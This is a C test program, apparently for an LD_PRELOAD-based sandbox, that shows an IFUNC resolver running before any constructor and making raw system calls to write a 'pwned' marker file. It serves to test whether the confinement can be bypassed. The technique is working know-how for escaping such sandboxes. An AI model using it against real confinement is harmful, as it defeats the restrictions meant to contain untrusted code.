/* ifunc_attack: an IFUNC resolver runs during relocation, before every constructor (LD_PRELOAD'ed libjail.so's included), so it acts unconfined. */
/*
 * The resolver may run before libc is relocated, so it calls nothing in
 * libc: it makes raw x86_64 system calls through inline asm. For the same
 * reason it cannot look up the environment, so the marker path is
 * hard-coded: when the attack works, the file "attack-marker" in the
 * current directory is created and holds "pwned\n". Link with -Wl,-z,now
 * so the resolver runs at startup rather than at the first call; main also
 * calls the ifunc'd function so the symbol is really used. main then
 * prints "main reached" and exits 0.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>

#ifndef __x86_64__
#error "ifunc_attack uses x86_64 system call conventions"
#endif

#if defined(__has_attribute)
#if __has_attribute(no_stack_protector)
#define NO_SSP __attribute__((no_stack_protector))
#endif
#endif
#ifndef NO_SSP
#define NO_SSP
#endif

#define MARKER_PATH "attack-marker"

static inline long raw_syscall4(long nr, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long ret;

	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return ret;
}

static int attack_impl(void)
{
	return 42;
}

NO_SSP static int (*resolve_attack_target(void))(void)
{
	static const char path[] = MARKER_PATH;
	static const char msg[] = "pwned\n";
	long fd = raw_syscall4(SYS_openat, AT_FDCWD, (long)path,
			       O_WRONLY | O_CREAT | O_TRUNC, 0644);

	if (fd >= 0) {
		raw_syscall4(SYS_write, fd, (long)msg, sizeof msg - 1, 0);
		raw_syscall4(SYS_close, fd, 0, 0, 0);
	}
	return attack_impl;
}

int attack_target(void) __attribute__((ifunc("resolve_attack_target")));

int main(void)
{
	if (attack_target() != 42)
		return 1;
	puts("main reached");
	return 0;
}
